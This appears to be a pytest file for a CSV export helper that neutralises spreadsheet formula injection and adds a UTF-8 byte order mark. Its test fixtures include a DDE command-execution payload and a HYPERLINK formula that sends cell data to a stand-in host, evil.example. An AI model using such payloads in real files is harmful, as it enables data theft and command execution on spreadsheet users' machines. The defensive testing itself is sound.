"""A spreadsheet that opens an export runs nothing in it, wherever a cell begins."""

import codecs
import csv
import io

import pytest

from core.spreadsheets import csv_lines


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (7, "7"),
        (-7, "-7"),
        ("-7.5", "-7.5"),
        ("Nightly jobs; the old ones", "Nightly jobs; the old ones"),
        ("a=b, c+d, e-f, g@h", "a=b, c+d, e-f, g@h"),
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        (" =HYPERLINK(1)", " '=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("=cmd|'/C calc'!A0", "'=cmd\\|'/C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        # Where files are taken apart at semicolons.
        ("Jobs;=HYPERLINK(1)", "Jobs;'=HYPERLINK(1)"),
        ("Jobs; =1;+1", "Jobs; '=1;'+1"),
        ("Jobs\t@SUM(1)", "Jobs\t'@SUM(1)"),
        ("Jobs\n=1", "Jobs\n'=1"),
    ],
)
def test_no_cell_is_a_formula(value: object, cell: str) -> None:
    [_heading, [written]] = csv.reader(
        io.StringIO("".join(csv_lines(["x"], [[value]])), newline="")
    )
    assert written == cell


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_at_any_separator(delimiter: str) -> None:
    label = 'Jobs;=HYPERLINK("http://evil.example/?"&A1)\t=1'
    for row in csv.reader(csv_lines(["id", "label"], [["1", label]]), delimiter=delimiter):
        assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in row)


def test_a_spreadsheet_recognizes_the_encoding() -> None:
    """Excel shows "SÃ¶hne" without the byte order mark."""
    written = "".join(csv_lines(["Label"], [["Söhne"]])).encode()
    assert written.startswith(codecs.BOM_UTF8)
    assert written.decode("utf-8-sig") == "Label\r\nSöhne\r\n"
